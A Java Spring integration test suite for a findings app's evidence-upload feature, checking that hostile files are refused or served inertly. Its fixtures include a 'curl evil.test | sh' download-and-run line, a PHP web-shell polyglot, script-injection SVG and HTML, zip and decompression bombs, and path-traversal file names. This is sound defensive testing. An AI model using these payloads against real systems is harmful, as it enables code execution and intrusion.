package io.bridgehead.findings;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;

import io.bridgehead.access.PlatformRole;
import io.bridgehead.audit.AuditAction;
import io.bridgehead.audit.AuditEntryView;
import io.bridgehead.projects.ProjectStatus;
import io.bridgehead.projects.Projects;
import io.bridgehead.support.ActingAs;
import io.bridgehead.support.AuditTrail;
import io.bridgehead.support.Html;
import io.bridgehead.support.IntegrationTest;
import io.bridgehead.support.SignIn;
import io.bridgehead.support.TestClients;
import io.bridgehead.support.TestWorkspaces;
import io.bridgehead.support.TestWorkspaces.TestWorkspace;
import jakarta.servlet.http.Cookie;
import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;

@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FindingEvidenceTest {

    private static final Pattern EVIDENCE_URL = Pattern.compile("/evidence/([0-9a-f-]{36})");
    private static final String NOT_ACCEPTED =
            "This kind of file cannot be evidence. Upload a PNG or JPEG image, a PDF,"
                    + " a plain-text file or a ZIP archive.";
    private static final String MARKUP = "HTML, SVG, XML and scripts cannot be evidence. Put them in a ZIP archive,"
            + " or save them as plain text that does not start with markup.";
    private static final String UNREADABLE = "This image could not be read. Upload a valid PNG or JPEG.";
    private static final String SANDBOX = "default-src 'none'; sandbox";

    @Autowired
    MockMvcTester mvc;

    @Autowired
    TestWorkspaces testWorkspaces;

    @Autowired
    TestClients testClients;

    @Autowired
    AuditTrail auditTrail;

    @Autowired
    Projects projects;

    TestWorkspace workspace;
    Cookie admin;
    UUID projectId;
    String project;

    @BeforeAll
    void setUp() {
        workspace = testWorkspaces.create("Evidence");
        admin = SignIn.as(mvc, workspace.admin());
        projectId = testClients.project(workspace, "Evidence project", null, ProjectStatus.IN_PROGRESS);
        project = "/projects/" + projectId;
    }

    @Test
    void aPngIsShownInlineAndServedAsPngThatIsNeverSniffedOrCached() throws Exception {
        String finding = finding("Stored XSS");
        byte[] png = TestClients.png(120, 80, Color.RED);

        MvcTestResult uploaded = upload(admin, finding, "screenshot.png", "image/png", png);

        assertThat(uploaded).hasRedirectedUrl(finding + "#evidence");
        assertThat(uploaded).flash().containsEntry("flash", "Evidence added.");
        String page = page(finding);
        String url = evidenceUrl(page, finding);
        assertThat(page).contains("<img class=\"evidence-thumb\" src=\"" + url + "\" alt=\"screenshot.png\"");
        MvcTestResult served = mvc.get().uri(url).cookie(admin).exchange();
        assertThat(served)
                .hasStatusOk()
                .hasContentType("image/png")
                .hasHeader("X-Content-Type-Options", "nosniff")
                .hasHeader("Content-Security-Policy", SANDBOX)
                .hasHeader("Cache-Control", "private, no-store")
                .hasHeader(
                        "Content-Disposition", "inline; filename=\"screenshot.png\"; filename*=UTF-8''screenshot.png");
        assertThat(served.getResponse().getHeaders("Content-Security-Policy")).hasSize(1);
        assertThat(served.getResponse().getContentAsByteArray()).isEqualTo(png);
    }

    @Test
    void aJpegIsShownInline() throws Exception {
        String finding = finding("JPEG evidence");
        BufferedImage photo = new BufferedImage(64, 64, BufferedImage.TYPE_INT_RGB);
        upload(admin, finding, "photo.jpeg", "application/octet-stream", TestClients.encode(photo, "jpeg"));

        MvcTestResult served =
                mvc.get().uri(evidenceUrl(page(finding), finding)).cookie(admin).exchange();
        assertThat(served)
                .hasStatusOk()
                .hasContentType("image/jpeg")
                .hasHeader("Content-Disposition", "inline; filename=\"photo.jpeg\"; filename*=UTF-8''photo.jpeg");
    }

    static Stream<Arguments> downloads() throws Exception {
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("request.txt"));
            out.write(bytes("GET / HTTP/1.1"));
            out.closeEntry();
        }
        return Stream.of(
                Arguments.of(
                        "report.pdf", bytes("%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n"), "application/pdf", "report.pdf"),
                Arguments.of(
                        "requests.log",
                        "HTTP/1.1 200 OK\nSet-Cookie: a=b\n\nÜber <b>bold</b>\n".getBytes(StandardCharsets.UTF_8),
                        "text/plain;charset=UTF-8",
                        "requests.log"),
                Arguments.of("notes.html", bytes("Plain notes\n"), "text/plain;charset=UTF-8", "notes.html.txt"),
                Arguments.of("dump.zip", zip.toByteArray(), "application/zip", "dump.zip"),
                Arguments.of("report.png", bytes("%PDF-1.4\n%%EOF\n"), "application/pdf", "report.png.pdf"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("downloads")
    void otherFilesAreDownloadsWithTheTypeOfTheirContent(
            String fileName, byte[] content, String contentType, String servedName) throws Exception {
        String finding = finding("Download " + fileName);

        assertThat(upload(admin, finding, fileName, "text/html", content)).hasRedirectedUrl(finding + "#evidence");

        String page = page(finding);
        String url = evidenceUrl(page, finding);
        assertThat(page).doesNotContain("<img class=\"evidence-thumb\"").contains(">" + servedName + "</a>");
        MvcTestResult served = mvc.get().uri(url).cookie(admin).exchange();
        assertThat(served)
                .hasStatusOk()
                .hasContentType(contentType)
                .hasHeader("X-Content-Type-Options", "nosniff")
                .hasHeader("Content-Security-Policy", SANDBOX)
                .hasHeader("Cache-Control", "private, no-store")
                .hasHeader(
                        "Content-Disposition",
                        "attachment; filename=\"" + servedName + "\"; filename*=UTF-8''" + servedName);
        assertThat(served.getResponse().getContentAsByteArray()).isEqualTo(content);
    }

    static Stream<Arguments> refusals() {
        byte[] png = TestClients.png(40, 40, Color.BLUE);
        byte[] polyglot = concat(Arrays.copyOf(png, 8), bytes("<html><script>alert(1)</script></html>"));
        byte[] truncatedPng = Arrays.copyOf(png, png.length / 2);
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[60] = (byte) 0x80;
        byte[] tooBig = new byte[20 * 1024 * 1024 + 1];
        Arrays.fill(tooBig, (byte) 'a');
        BufferedImage gif = new BufferedImage(16, 16, BufferedImage.TYPE_BYTE_INDEXED);
        return Stream.of(
                Arguments.of(
                        "HTML renamed .png", "shot.png", bytes("<!DOCTYPE html><html><body>hi</body></html>"), MARKUP),
                Arguments.of(
                        "SVG",
                        "image.svg",
                        bytes("\uFEFF  <svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
                        MARKUP),
                Arguments.of("shell script", "run.txt", bytes("#!/bin/sh\ncurl evil.test | sh\n"), MARKUP),
                Arguments.of("EXE", "setup.pdf", exe, NOT_ACCEPTED),
                Arguments.of("GIF", "anim.gif", TestClients.encode(gif, "gif"), NOT_ACCEPTED),
                Arguments.of("UTF-16 text", "u16.txt", "hello".getBytes(StandardCharsets.UTF_16), NOT_ACCEPTED),
                Arguments.of("PNG signature + HTML", "poly.png", polyglot, UNREADABLE),
                Arguments.of(
                        "PNG announcing 50000×50000 (decompression bomb)",
                        "bomb.png",
                        announcing(png, 50_000, 50_000),
                        "This image is too large: at most 20,000 × 20,000 and 100 million pixels."),
                Arguments.of("truncated PNG", "cut.png", truncatedPng, UNREADABLE),
                Arguments.of(
                        "empty file",
                        "empty.txt",
                        new byte[0],
                        "Choose a file to upload; empty files cannot be evidence."),
                Arguments.of("more than 20 MB", "big.txt", tooBig, "Evidence files can be at most 20 MB."));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusals")
    void filesThatAreNotAcceptedAreRefusedWithAMessageAndNothingIsStored(
            String attack, String fileName, byte[] content, String message) {
        String finding = finding("Target of " + attack);

        MvcTestResult result = upload(admin, finding, fileName, "image/png", content);

        assertThat(result).hasRedirectedUrl(finding + "#evidence");
        assertThat(result).flash().containsEntry("evidenceError", message);
        assertThat(testClients.count(workspace, "finding_evidence where finding_id = ?", idOf(finding)))
                .isZero();
        assertThat(Html.fieldError(page(finding), "evidence-file")).isEqualTo(message);
    }

    static Stream<Arguments> imagePolyglots() throws Exception {
        byte[] png = TestClients.png(48, 48, Color.GREEN);
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("Payload.class"));
            out.write(bytes("cafebabe"));
            out.closeEntry();
        }
        return Stream.of(
                Arguments.of(
                        "PNG + PHP and script after IEND",
                        "shell.php",
                        concat(png, bytes("<?php system($_GET['c']); ?><script>alert(1)</script>")),
                        "shell.php.png"),
                Arguments.of("PNG + ZIP (GIFAR-style)", "x.png.html", concat(png, zip.toByteArray()), "x.png.html.png"),
                Arguments.of("plain PNG named .html", "page.html", png, "page.html.png"));
    }

    /**
     * A real image with anything appended still decodes, so it is kept byte for byte (evidence is not altered); it is
     * named and served as the image it is, inline only as an image, never sniffed, in a sandbox without script.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("imagePolyglots")
    void anImageCarryingMarkupIsOnlyEverServedAsAnImage(String attack, String fileName, byte[] content, String stored)
            throws Exception {
        String finding = finding("Polyglot " + attack);

        assertThat(upload(admin, finding, fileName, "text/html", content))
                .flash()
                .containsEntry("flash", "Evidence added.");

        MvcTestResult served =
                mvc.get().uri(evidenceUrl(page(finding), finding)).cookie(admin).exchange();
        assertThat(served)
                .hasStatusOk()
                .hasContentType("image/png")
                .hasHeader("X-Content-Type-Options", "nosniff")
                .hasHeader("Content-Security-Policy", SANDBOX)
                .hasHeader("Content-Disposition", "inline; filename=\"" + stored + "\"; filename*=UTF-8''" + stored);
        assertThat(served.getResponse().getContentAsByteArray()).isEqualTo(content);
    }

    @Test
    void aZipBombIsKeptAsItWasUploadedNeverUnpackedAndOnlyDownloaded() throws Exception {
        String finding = finding("Zip bomb");
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("zeros.bin"));
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 64; i++) {
                out.write(zeros);
            }
            out.closeEntry();
        }
        byte[] bomb = zip.toByteArray();
        assertThat(bomb.length).as("64 MB packed into well under 1 MB").isLessThan(1024 * 1024);

        assertThat(upload(admin, finding, "bomb.zip", "application/zip", bomb))
                .flash()
                .containsEntry("flash", "Evidence added.");

        assertThat(testClients.value(
                        workspace,
                        Long.class,
                        "select size_bytes from finding_evidence where finding_id = ?",
                        idOf(finding)))
                .isEqualTo((long) bomb.length);
        MvcTestResult served =
                mvc.get().uri(evidenceUrl(page(finding), finding)).cookie(admin).exchange();
        assertThat(served)
                .hasStatusOk()
                .hasContentType("application/zip")
                .hasHeader("Content-Disposition", "attachment; filename=\"bomb.zip\"; filename*=UTF-8''bomb.zip");
        assertThat(served.getResponse().getContentAsByteArray()).isEqualTo(bomb);
    }

    @Test
    void exactly20MbIsAccepted() {
        String finding = finding("Big but allowed");
        byte[] content = new byte[20 * 1024 * 1024];
        Arrays.fill(content, (byte) 'x');

        assertThat(upload(admin, finding, "big.txt", "text/plain", content))
                .flash()
                .containsEntry("flash", "Evidence added.");
        assertThat(testClients.value(
                        workspace,
                        Long.class,
                        "select size_bytes from finding_evidence where finding_id = ?",
                        idOf(finding)))
                .isEqualTo(20L * 1024 * 1024);
    }

    @Test
    void pathsAndControlCharactersAreCleanedFromFileNames() throws Exception {
        String finding = finding("Names");
        byte[] pdf = bytes("%PDF-1.7\n%%EOF\n");

        upload(admin, finding, "../../etc/passwd\u0000\r\n.pdf", "application/pdf", pdf);
        upload(admin, finding, "..\\..\\windows\\evil\u202Egnp.pdf", "application/pdf", pdf);
        upload(admin, finding, "..", "application/pdf", pdf);
        upload(admin, finding, "Prüfbericht ✓ \"final\".pdf", "application/pdf", pdf);
        upload(admin, finding, "a".repeat(300) + ".pdf", "application/pdf", pdf);

        UUID findingId = idOf(finding);
        assertThat(names(findingId, 0)).isEqualTo("passwd.pdf");
        assertThat(names(findingId, 1)).isEqualTo("evilgnp.pdf");
        assertThat(names(findingId, 2)).isEqualTo("evidence.pdf");
        assertThat(names(findingId, 3)).isEqualTo("Prüfbericht ✓ \"final\".pdf");
        assertThat(names(findingId, 4)).isEqualTo("a".repeat(251) + ".pdf");

        String page = page(finding);
        Matcher matcher = EVIDENCE_URL.matcher(page);
        String url = null;
        while (matcher.find()) {
            String candidate = finding + "/evidence/" + matcher.group(1);
            MvcTestResult served = mvc.get().uri(candidate).cookie(admin).exchange();
            if (served.getResponse().getHeader("Content-Disposition").contains("Pr")) {
                url = candidate;
                assertThat(served)
                        .hasHeader(
                                "Content-Disposition",
                                "attachment; filename=\"Pr_fbericht _ _final_.pdf\";"
                                        + " filename*=UTF-8''Pr%C3%BCfbericht%20%E2%9C%93%20%22final%22.pdf");
            }
        }
        assertThat(url).as("the umlaut file is listed").isNotNull();
    }

    @Test
    void aReviewerDownloadsButCannotUploadOrRemove() throws Exception {
        String finding = finding("Reviewed");
        upload(admin, finding, "proof.pdf", "application/pdf", bytes("%PDF-1.7\n%%EOF\n"));
        String url = evidenceUrl(page(finding), finding);
        Cookie reviewer = SignIn.as(mvc, testWorkspaces.addUser(workspace, PlatformRole.REVIEWER));

        String seen = Html.of(mvc.get().uri(finding).cookie(reviewer).exchange());
        assertThat(seen).contains("proof.pdf").doesNotContain("evidence-file").doesNotContain("/remove\"");
        assertThat(mvc.get().uri(url).cookie(reviewer)).hasStatusOk().hasContentType("application/pdf");
        assertThat(upload(reviewer, finding, "more.pdf", "application/pdf", bytes("%PDF-1.7\n")))
                .hasStatus(403);
        assertThat(mvc.post().uri(url + "/remove").cookie(reviewer).with(csrf()))
                .hasStatus(403);
        assertThat(testClients.count(workspace, "finding_evidence where finding_id = ?", idOf(finding)))
                .isEqualTo(1);
    }

    @Test
    void evidenceOfAnotherWorkspaceOrAnotherFindingIsNotFound() throws Exception {
        String finding = finding("Secret evidence");
        String other = finding("Other finding");
        upload(admin, finding, "secret.pdf", "application/pdf", bytes("%PDF-1.7\n%%EOF\n"));
        String url = evidenceUrl(page(finding), finding);
        String evidenceId = url.substring(url.lastIndexOf('/') + 1);
        TestWorkspace elsewhere = testWorkspaces.create("Other evidence");
        Cookie outsider = SignIn.as(mvc, elsewhere.admin());

        assertThat(mvc.get().uri(url).cookie(outsider)).hasStatus(404);
        assertThat(mvc.post().uri(url + "/remove").cookie(outsider).with(csrf()))
                .hasStatus(404);
        assertThat(mvc.get().uri(other + "/evidence/" + evidenceId).cookie(admin))
                .hasStatus(404);
        assertThat(mvc.post()
                        .uri(other + "/evidence/" + evidenceId + "/remove")
                        .cookie(admin)
                        .with(csrf()))
                .hasStatus(404);
        assertThat(mvc.get().uri(finding + "/evidence/" + UUID.randomUUID()).cookie(admin))
                .hasStatus(404);
        assertThat(testClients.count(workspace, "finding_evidence where id = ?", UUID.fromString(evidenceId)))
                .isEqualTo(1);
    }

    @Test
    void addingAndRemovingAreAudited() throws Exception {
        String finding = finding("Audited");
        upload(admin, finding, "gone.pdf", "application/pdf", bytes("%PDF-1.7\n%%EOF\n"));
        String url = evidenceUrl(page(finding), finding);

        MvcTestResult removed =
                mvc.post().uri(url + "/remove").cookie(admin).with(csrf()).exchange();

        assertThat(removed).hasRedirectedUrl(finding + "#evidence");
        assertThat(removed).flash().containsEntry("flash", "Evidence removed.");
        assertThat(mvc.get().uri(url).cookie(admin)).hasStatus(404);
        assertThat(page(finding)).contains("No evidence attached.");
        AuditEntryView latest =
                auditTrail.entriesBy(workspace, workspace.admin().email()).get(0);
        assertThat(latest.action()).isEqualTo(AuditAction.FINDING_EVIDENCE_REMOVED);
        assertThat(latest.details()).isEqualTo("gone.pdf");
        assertThat(auditTrail.actionsBy(workspace, workspace.admin().email()).subList(0, 2))
                .containsExactly(AuditAction.FINDING_EVIDENCE_REMOVED, AuditAction.FINDING_EVIDENCE_ADDED);
    }

    @Test
    void anArchivedProjectRefusesUploadsAndRemovalsButStillServesFiles() throws Exception {
        UUID archivedId = testClients.project(workspace, "Archived evidence project", null, ProjectStatus.IN_PROGRESS);
        String archivedProject = "/projects/" + archivedId;
        String finding = post(archivedProject + "/findings/new", "title", "Before archive", "severity", "LOW")
                .getResponse()
                .getRedirectedUrl();
        upload(admin, finding, "kept.pdf", "application/pdf", bytes("%PDF-1.7\n%%EOF\n"));
        String url = evidenceUrl(page(finding), finding);
        ActingAs.run(workspace, workspace.admin(), () -> projects.archive(archivedId));

        assertThat(upload(admin, finding, "late.pdf", "application/pdf", bytes("%PDF-1.7\n%%EOF\n")))
                .hasStatus(409);
        assertThat(mvc.post().uri(url + "/remove").cookie(admin).with(csrf())).hasStatus(409);
        assertThat(mvc.get().uri(url).cookie(admin)).hasStatusOk();
        assertThat(page(finding)).contains("kept.pdf").doesNotContain("evidence-file");
    }

    private String names(UUID findingId, int index) {
        return testClients.value(
                workspace,
                String.class,
                "select file_name from finding_evidence where finding_id = ? order by uploaded_at, id offset ? limit 1",
                findingId,
                index);
    }

    /** Creates a finding and opens its page, as the browser does after the redirect. */
    private String finding(String title) {
        String url = post(project + "/findings/new", "title", title, "severity", "MEDIUM")
                .getResponse()
                .getRedirectedUrl();
        page(url);
        return url;
    }

    private static UUID idOf(String findingUrl) {
        return UUID.fromString(findingUrl.substring(findingUrl.lastIndexOf('/') + 1));
    }

    private static String evidenceUrl(String page, String finding) {
        Matcher matcher = EVIDENCE_URL.matcher(page);
        assertThat(matcher.find()).as("an evidence link on the page").isTrue();
        return finding + "/evidence/" + matcher.group(1);
    }

    private MvcTestResult upload(Cookie user, String finding, String fileName, String contentType, byte[] content) {
        return mvc.post()
                .uri(finding + "/evidence")
                .multipart()
                .file(new MockMultipartFile("file", fileName, contentType, content))
                .cookie(user)
                .with(csrf())
                .exchange();
    }

    private MvcTestResult post(String url, String... params) {
        var request = mvc.post().uri(url).cookie(admin).with(csrf());
        for (int i = 0; i < params.length; i += 2) {
            request = request.param(params[i], params[i + 1]);
        }
        return request.exchange();
    }

    private String page(String url) {
        return Html.of(mvc.get().uri(url).cookie(admin).exchange());
    }

    /** The PNG with other dimensions in its header (and a matching checksum), its pixel data unchanged. */
    private static byte[] announcing(byte[] png, int width, int height) {
        byte[] bomb = png.clone();
        java.nio.ByteBuffer.wrap(bomb, 16, 8).putInt(width).putInt(height);
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(bomb, 12, 17);
        java.nio.ByteBuffer.wrap(bomb, 29, 4).putInt((int) crc.getValue());
        return bomb;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] result = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, result, a.length, b.length);
        return result;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
